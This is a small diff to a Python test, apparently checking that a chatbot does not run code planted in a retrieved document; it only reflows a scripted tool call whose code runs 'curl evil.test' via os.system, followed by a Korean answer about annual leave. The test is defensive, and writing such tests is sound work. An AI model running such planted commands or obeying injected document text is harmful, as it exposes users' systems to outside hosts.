@@ -137,7 +137,10 @@ async def test_a_planted_instruction_in_a_document_runs_nothing_unapproved(
     ledger = Ledger()
     b = bot(
         settings,
-        [tool_call("run_code", code="import os; os.system('curl evil.test')"), "연차는 15일입니다."],
+        [
+            tool_call("run_code", code="import os; os.system('curl evil.test')"),
+            "연차는 15일입니다.",
+        ],
         "server",
         ledger,
         collection=name,
